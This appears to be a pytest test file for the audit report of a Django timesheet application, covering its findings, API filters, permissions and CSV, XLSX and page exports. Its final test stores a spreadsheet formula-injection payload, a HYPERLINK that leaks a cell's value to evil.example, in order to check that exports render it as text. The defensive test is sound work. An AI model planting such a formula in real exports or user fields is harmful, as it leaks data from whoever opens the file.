import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from timeledger.accounts.models import Member
from timeledger.projects.models import BillingModel, ProjectStatus
from timeledger.rates.models import Rate
from timeledger.reports import audit
from timeledger.reports.audit import Filters, Kind
from timeledger.testing import factories as f
from timeledger.timesheets.models import EntryStatus, TimeEntry

AMS = dt.timezone(dt.timedelta(hours=1))
MONDAY = dt.date(2026, 11, 9)
WEEK = Filters(week=MONDAY)
SATURDAY_NOON = dt.datetime(2026, 11, 14, 12, 0, tzinfo=AMS)


@pytest.fixture
def rate(org):
    return Rate.objects.create(
        organisation=org,
        level="organisation",
        amount=Decimal("100.00"),
        currency="EUR",
        effective_from=dt.date(2026, 1, 1),
    )


@pytest.fixture
def full_week(org, alice, project, rate):
    """Alice worked a full, clean week: 8 h Monday to Friday, nothing to report."""
    Member.objects.filter(pk=alice.pk).update(created_at=dt.datetime(2026, 1, 1, tzinfo=AMS))
    alice.refresh_from_db()
    return [
        f.entry(alice, project, day=MONDAY + dt.timedelta(days=i), hours="8.00", description="work")
        for i in range(5)
    ]


def kinds(org, filters=WEEK, now=SATURDAY_NOON):
    return [x.kind for x in audit.findings(org, filters, now=now)]


def only(org, kind, filters=WEEK, now=SATURDAY_NOON):
    return [x for x in audit.findings(org, filters, now=now) if x.kind == kind]


def test_clean_week_has_no_findings(org, full_week):
    assert kinds(org) == []


def test_non_billable_without_reason_on_billable_task(org, alice, project, full_week):
    task = f.task(project, "Build", billable=True)
    silent = f.entry(alice, project, day=MONDAY, hours="1.00", billable=False, t=task)
    f.entry(
        alice, project, day=MONDAY, hours="1.00", billable=False, t=task, description="warranty"
    )
    found = only(org, Kind.NO_BILLABLE_DECISION)
    assert [x.entry_id for x in found] == [silent.pk]
    assert found[0].fix_url == reverse("entry_edit", args=[silent.pk])


def test_task_of_another_project(org, alice, project, client_, full_week):
    other = f.project(org, client_, code="OTHER")
    foreign_task = f.task(other, "Elsewhere")
    bad = f.entry(alice, project, day=MONDAY, hours="0.50", t=foreign_task, description="x")
    assert [x.entry_id for x in only(org, Kind.TASK_NOT_IN_PROJECT)] == [bad.pk]


def test_client_project_mismatch(org, alice, project, full_week):
    stranger = f.client(org, code="ZZZ")
    bad = f.entry(alice, project, day=MONDAY, hours="0.50", description="x")
    TimeEntry.objects.filter(pk=bad.pk).update(client=stranger)  # e.g. an old import
    found = only(org, Kind.CLIENT_MISMATCH)
    assert [x.entry_id for x in found] == [bad.pk]
    assert "ZZZ" in found[0].message


def test_billable_on_non_billable_task_or_internal_project(org, alice, project, client_, full_week):
    internal = f.project(org, client_, code="INT", billing_model=BillingModel.NON_BILLABLE)
    free_task = f.task(project, "Support", billable=False)
    a = f.entry(alice, project, day=MONDAY, hours="1.00", t=free_task, description="x")
    b = f.entry(alice, internal, day=MONDAY, hours="1.00", description="x")
    assert sorted(x.entry_id for x in only(org, Kind.BILLABLE_ON_NON_BILLABLE)) == [a.pk, b.pk]


def test_missing_time_by_working_day_and_capacity(org, alice, project, rate):
    Member.objects.filter(pk=alice.pk).update(
        created_at=dt.datetime(2026, 1, 1, tzinfo=AMS),
        working_days="135",
        weekly_capacity_hours=Decimal("24.00"),
    )
    f.entry(alice, project, day=MONDAY, hours="6.00", description="x")
    f.entry(alice, project, day=MONDAY + dt.timedelta(days=2), hours="8.00", description="x")
    wednesday_evening = dt.datetime(2026, 11, 11, 20, 0, tzinfo=AMS)

    found = only(org, Kind.MISSING_TIME, now=wednesday_evening)

    # Monday is 2 h short; Wednesday is today (not over yet); Tuesday is not a working day
    assert [(x.member_id, x.date, x.hours) for x in found] == [(alice.pk, MONDAY, "2:00")]
    assert found[0].message == "Logged 6:00 of 8:00 on Monday."
    assert found[0].fix_url == reverse("approval_week", args=[alice.pk, "2026-11-09"])
    # Friday counts once it has passed
    friday = [x.date for x in only(org, Kind.MISSING_TIME)]
    assert friday == [MONDAY, dt.date(2026, 11, 13)]


def test_missing_time_left_out_when_filtering_by_project(org, alice, project, rate):
    Member.objects.filter(pk=alice.pk).update(created_at=dt.datetime(2026, 1, 1, tzinfo=AMS))
    assert Kind.MISSING_TIME in kinds(org)
    assert Kind.MISSING_TIME not in kinds(org, Filters(week=MONDAY, project_id=project.pk))


def test_backlogs_submitted_and_stale_approved(org, alice, project, full_week):
    org.approved_unbilled_days = 30
    org.save()
    waiting = f.entry(
        alice, project, day=MONDAY - dt.timedelta(days=7), hours="1", status=EntryStatus.SUBMITTED
    )
    stale = f.entry(
        alice, project, day=dt.date(2026, 10, 1), hours="1", status=EntryStatus.APPROVED
    )
    f.entry(alice, project, day=dt.date(2026, 11, 2), hours="1", status=EntryStatus.APPROVED)

    submitted = only(org, Kind.SUBMITTED_UNAPPROVED)
    assert [x.entry_id for x in submitted] == [waiting.pk]
    assert submitted[0].fix_url == reverse("approval_week", args=[alice.pk, "2026-11-02"])
    unbilled = only(org, Kind.APPROVED_UNBILLED)
    assert [x.entry_id for x in unbilled] == [stale.pk]
    assert "44 days after the work (limit 30 days)" in unbilled[0].message


def test_entries_on_closed_or_archived_projects(org, alice, client_, rate, full_week):
    closed = f.project(org, client_, code="OLD", status=ProjectStatus.CLOSED)
    archived = f.project(org, client_, code="ARCH", is_archived=True)
    a = f.entry(alice, closed, day=MONDAY, hours="1", description="x")
    b = f.entry(alice, archived, day=MONDAY, hours="1", description="x")
    f.entry(alice, closed, day=MONDAY, hours="1", description="x", status=EntryStatus.INVOICED)
    assert sorted(x.entry_id for x in only(org, Kind.CLOSED_PROJECT)) == [a.pk, b.pk]


def test_overlapping_entries_reported_once_per_pair(org, alice, project, full_week):
    def at(h, m=0):
        return dt.datetime(2026, 11, 10, h, m, tzinfo=AMS)

    a = f.entry(alice, project, day=MONDAY, start=at(9), end=at(11), hours="2", description="a")
    b = f.entry(alice, project, day=MONDAY, start=at(10), end=at(12), hours="2", description="b")
    f.entry(alice, project, day=MONDAY, start=at(12), end=at(13), hours="1", description="c")
    found = only(org, Kind.OVERLAP)
    assert [(x.entry_id, x.extra["other"]) for x in found] == [(b.pk, a.pk)]
    assert "10:00–12:00" in found[0].message


def test_billable_entries_without_rate(org, alice, project, full_week, rate):
    rate.delete()
    found = only(org, Kind.NO_RATE)
    assert len(found) == 5
    Rate.objects.create(
        organisation=org,
        level="project",
        project=project,
        amount=Decimal("90.00"),
        currency="EUR",
        effective_from=dt.date(2026, 11, 11),
    )
    # the project rate starts on Wednesday: Monday and Tuesday still have none
    assert sorted(x.date for x in only(org, Kind.NO_RATE)) == [MONDAY, MONDAY + dt.timedelta(1)]


def test_outsider_data_never_appears(org, outsider_org, outsider, full_week):
    p = f.project(outsider_org, code="THEIRS")
    f.entry(outsider, p, day=MONDAY, hours="1", billable=False)
    assert kinds(org) == []
    assert all(x.member_id == outsider.pk for x in audit.findings(outsider_org, WEEK))


# --- Screens, API and exports -----------------------------------------------------------------


@pytest.fixture
def one_finding(org, alice, project, full_week):
    task = f.task(project, "Build", billable=True)
    return f.entry(alice, project, day=MONDAY, hours="1.00", billable=False, t=task)


def test_api_report_with_filters(api, manager, alice, project, one_finding):
    r = api(manager).get(f"/api/reports/audit/?week=2026-11-12&project={project.pk}")
    assert r.status_code == 200
    body = r.json()
    assert body["week"] == "2026-11-09"
    counts = {row["kind"]: row["count"] for row in body["summary"]}
    assert counts[Kind.NO_BILLABLE_DECISION] == 1
    finding = next(x for x in body["findings"] if x["kind"] == Kind.NO_BILLABLE_DECISION)
    assert finding["entry"] == one_finding.pk
    assert finding["fix_url"] == f"http://testserver/entries/{one_finding.pk}/edit/"


def test_api_report_bad_filter_and_permissions(api, manager, alice, outsider, project, one_finding):
    r = api(manager).get("/api/reports/audit/?week=soon")
    assert r.status_code == 400
    assert "week" in r.json()["fields"]
    assert api(alice).get("/api/reports/audit/").status_code == 403
    r = api(outsider).get(f"/api/reports/audit/?week=2026-11-09&project={project.pk}")
    assert r.status_code == 400  # our project is not a choice for them
    r = api(outsider).get("/api/reports/audit/?week=2026-11-09")
    assert [x for x in r.json()["findings"] if x["kind"] != Kind.MISSING_TIME] == []


def test_csv_export(client, manager, one_finding):
    client.force_login(manager.user)
    r = client.get(reverse("audit_report_csv"), {"week": "2026-11-09"})
    assert r["Content-Type"].startswith("text/csv")
    assert 'filename="audit-2026-W46.csv"' in r["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(r.content.decode())))
    assert rows[0] == audit.COLUMNS
    data = [row for row in rows[1:] if row[0] == "Non-billable without a reason"]
    assert len(data) == 1
    assert data[0][5] == str(one_finding.pk)
    assert data[0][8] == f"http://testserver/entries/{one_finding.pk}/edit/"


def test_xlsx_export_via_api(api, manager, one_finding):
    r = api(manager).get("/api/reports/audit/?week=2026-11-09&export=xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    values = list(ws.iter_rows(values_only=True))
    assert list(values[0]) == audit.COLUMNS
    row = next(v for v in values[1:] if v[0] == "Non-billable without a reason")
    assert row[5] == one_finding.pk
    assert row[2] == "2026-11-09"


def test_page_renders_findings_with_fix_links(client, manager, one_finding):
    client.force_login(manager.user)
    body = client.get(reverse("audit_report"), {"week": "2026-11-09"}).content.decode()
    assert "Non-billable without a reason" in body
    assert f'href="/entries/{one_finding.pk}/edit/"' in body
    fragment = client.get(
        reverse("audit_report"), {"week": "2026-11-09"}, HTTP_HX_REQUEST="true"
    ).content.decode()
    assert "<html" not in fragment


def test_page_bad_week_shows_inline_error(client, manager, one_finding):
    client.force_login(manager.user)
    body = client.get(reverse("audit_report"), {"week": "x"}).content.decode()
    assert 'id="id_week-error"' in body


def test_page_refused_to_members(client, alice):
    client.force_login(alice.user)
    assert client.get(reverse("audit_report")).status_code == 403


FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&D2,"Click")'


def test_exports_never_carry_a_formula(client, api, manager, alice, one_finding):
    """A member named like a formula shows as text in the manager's CSV and XLSX."""
    alice.user.first_name, alice.user.last_name = FORMULA_NAME, ""
    alice.user.save()
    client.force_login(manager.user)
    r = client.get(reverse("audit_report_csv"), {"week": "2026-11-09"})
    cells = [c for row in csv.reader(io.StringIO(r.content.decode())) for c in row]
    assert "'" + FORMULA_NAME in cells
    assert [c for c in cells if c[:1] in "=+-@\t\r" and c] == []

    r = api(manager).get("/api/reports/audit/?week=2026-11-09&export=xlsx")
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + FORMULA_NAME in [c.value for c in cells]
